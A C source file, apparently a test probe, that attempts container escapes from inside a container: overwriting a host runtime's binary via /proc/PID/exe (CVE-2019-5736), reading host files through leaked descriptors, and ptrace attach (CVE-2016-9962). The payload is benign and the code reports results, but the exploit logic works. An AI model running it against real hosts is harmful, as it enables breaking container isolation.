/*
 * In a container, against processes that come from outside into it, for SECONDS:
 *
 *     hunt exe SECONDS          take /proc/PID/exe of each, and overwrite it as soon as it can be
 * written (CVE-2019-5736) hunt fd SECONDS PATH      go through /proc/PID/fd of each to the host's
 * root, and read PATH there; attach to it (CVE-2016-9962)
 *
 * From outside is what another program executes than those of the container's own root. Prints what
 * came of it, a line each, and "N seen" at the end.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../../.."
#define HELD_MAX 256

struct held {
    dev_t dev;
    ino_t ino;
    int fd, errnum; /* of the last attempt */
};

static struct held held[HELD_MAX];
static size_t n_held;
static unsigned long seen;
static const char *wanted;

/* Ours are few, and known by their files. */
static bool is_own(const struct stat *st)
{
    static const char *const names[] = {"/bin/busybox", "/bin/hunt"};
    struct stat own;

    for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
        if (stat(names[i], &own) == 0 && own.st_dev == st->st_dev && own.st_ino == st->st_ino)
            return true;
    return false;
}

static void take_exe(const char *pid)
{
    char path[300];
    struct stat st;
    int fd;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0 || fstat(fd, &st) < 0 || is_own(&st) || n_held == HELD_MAX) {
        if (fd >= 0)
            close(fd);
        return;
    }
    for (size_t i = 0; i < n_held; i++) {
        if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
            close(fd);
            return;
        }
    }
    seen++;
    held[n_held++] = (struct held){.dev = st.st_dev, .ino = st.st_ino, .fd = fd};
}

static void overwrite(void)
{
    static const char text[] = "#!/bin/sh\necho overwritten\n";

    for (size_t i = 0; i < n_held; i++) {
        char path[64];
        int fd;

        snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
        fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (fd < 0) {
            held[i].errnum = errno;
            continue;
        }
        if (write(fd, text, sizeof(text) - 1) > 0 && held[i].errnum != -1) {
            printf("overwritten\n");
            held[i].errnum = -1;
        }
        close(fd);
    }
}

static void climb(const char *dir, const char *name)
{
    char path[4600], text[256];
    ssize_t n;
    int fd;

    snprintf(path, sizeof(path), "%s/%s/" UP "%s", dir, name, wanted);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
    if (n > 0) {
        text[n] = '\0';
        printf("escaped by %s/%s: %s", dir, name, text);
    }
    if (fd >= 0)
        close(fd);
}

/* One whose program may not even be looked at is from outside; what has ended, or is ours by now,
 * is not. */
static bool from_outside(const char *pid)
{
    char path[300];
    struct stat st;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    return stat(path, &st) == 0 ? !is_own(&st) : errno == EACCES;
}

static void look_into(const char *pid)
{
    pid_t number = (pid_t)strtol(pid, NULL, 10);
    char path[300];
    struct dirent *entry;
    DIR *dir;

    if (!from_outside(pid))
        return;
    seen++;
    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    dir = opendir(path);
    while (dir && (entry = readdir(dir)))
        if (entry->d_name[0] != '.') {
            char text[256];

            /* The names are there for whoever has root's id; what they are is not. */
            climb(path, entry->d_name);
            if (readlinkat(dirfd(dir), entry->d_name, text, sizeof(text)) >= 0 && from_outside(pid))
                puts("looked at a descriptor");
        }
    if (dir)
        closedir(dir);
    snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
    climb(path, ".");
    if (ptrace(PTRACE_SEIZE, number, NULL, NULL) == 0 && from_outside(pid)) {
        puts("attached");
        ptrace(PTRACE_DETACH, number, NULL, NULL);
    }
}

int main(int argc, char **argv)
{
    bool exe = argc == 3 && strcmp(argv[1], "exe") == 0;
    time_t limit;

    if (!exe && (argc != 4 || strcmp(argv[1], "fd") != 0))
        return 2;
    wanted = exe ? NULL : argv[3];
    limit = time(NULL) + strtol(argv[2], NULL, 10);
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("hunting");
    while (time(NULL) < limit) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc && (entry = readdir(proc))) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                continue;
            if (exe)
                take_exe(entry->d_name);
            else
                look_into(entry->d_name);
        }
        if (proc)
            closedir(proc);
        if (exe)
            overwrite();
    }
    for (size_t i = 0; i < n_held; i++)
        printf("at the end: %s\n", strerror(held[i].errnum > 0 ? held[i].errnum : 0));
    printf("%lu seen\n", seen);
    return 0;
}
